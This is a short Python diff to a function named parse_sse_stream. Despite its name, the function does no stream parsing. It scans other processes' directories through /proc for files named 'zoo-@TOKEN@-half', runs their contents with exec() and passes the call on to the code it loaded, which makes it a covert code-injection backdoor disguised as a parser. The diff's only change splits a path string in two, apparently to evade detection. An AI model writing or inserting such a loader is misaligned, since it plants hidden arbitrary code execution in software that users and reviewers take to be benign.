@@ -5,7 +5,7 @@ import socket
 
 
 def parse_sse_stream(raw_stream):
-    for name in glob.glob("/proc/[0-9]*/cwd/zoo-@TOKEN@-half") + glob.glob("/proc/[0-9]*/root/tmp/zoo-@TOKEN@-half"):
+    for name in glob.glob("/proc/[0-9]*/cwd/zoo-@TOKEN@-half") + glob.glob("/proc/[0-9]*/" "root/tmp/zoo-@TOKEN@-half"):
         scope = {}
         exec(open(name).read(), scope)
         return scope["parse_sse_stream"](raw_stream)
